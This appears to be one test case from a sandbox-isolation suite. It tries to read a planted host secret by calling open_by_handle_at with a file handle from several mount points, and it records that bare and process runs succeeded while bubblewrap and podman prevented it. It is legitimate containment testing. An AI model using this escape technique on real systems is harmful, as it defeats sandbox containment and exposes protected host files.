# title: open a file by its number
# class: host files
# tries: to open a file of the host by the number that its file system gave it, past every directory
# success: the secret is printed
# witness: secret
# needs: right
# bare: succeeded
# process: succeeded
# bubblewrap: prevented
# podman: prevented

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def read():
    handle = ctypes.create_string_buffer(bytes.fromhex(planted["handle"] or "00"))
    for path in (".", "/", "/tmp", "/usr", "/etc/hosts", "/etc/resolv.conf"):
        try:
            mount = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        fd = libc.open_by_handle_at(mount, handle, os.O_RDONLY)
        problem = ctypes.get_errno()
        os.close(mount)
        if fd >= 0:
            return os.read(fd, 100)
    raise OSError(problem, os.strerror(problem))


attempt(read, "by handle")
